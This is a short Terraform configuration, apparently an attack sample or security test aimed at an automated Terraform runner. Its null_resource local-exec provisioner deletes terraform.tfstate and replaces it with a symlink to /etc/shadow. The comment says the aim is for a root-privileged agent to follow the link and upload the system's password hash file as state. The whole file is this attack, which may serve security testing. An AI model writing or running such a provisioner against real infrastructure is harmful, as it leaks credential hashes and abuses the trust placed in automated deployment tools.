# Replaces what the agent reads after the apply (the state) with a link to a host file, hoping the agent,
# which may be root, follows it and uploads the file as state.
resource "null_resource" "plant" {
  provisioner "local-exec" {
    command = "rm -f terraform.tfstate && ln -s /etc/shadow terraform.tfstate && echo PLANTED"
  }
}
